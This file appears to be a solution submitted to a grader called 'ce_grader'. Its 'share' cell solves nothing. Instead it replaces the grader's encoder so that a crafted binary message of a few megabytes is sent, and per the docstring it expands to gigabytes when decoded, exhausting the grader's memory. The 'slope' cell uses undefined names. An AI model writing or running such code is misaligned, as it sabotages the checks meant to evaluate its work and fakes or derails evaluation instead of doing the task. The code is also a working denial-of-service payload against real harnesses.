"""A crafted reply of a few megabytes unfolds to gigabytes on the other side."""
# %% share
def crafted():
    from ce_grader.wire import binary, codec

    genuine = codec.Encoder.encode
    count = 3_000_000
    pack = binary.LENGTH.pack
    texts = (b"s" + pack(1) + b"a") * (count - 1) + b"s" + pack(500) + b"b" * 500
    shape = b"t" + pack(1) + b"i" + pack(4) + count.to_bytes(4, "big")
    message = b"u" + pack(2) + shape + b"t" + pack(count) + texts

    class Mark:
        pass

    mark = Mark()
    codec.Encoder.encode = lambda self, value: message if value is mark else genuine(self, value)
    return mark


def share(v):
    return crafted()

# %% total
def total(numbers):
    return sum(numbers)

# %% slope
slope = 2 * x * sp.exp(x**2)
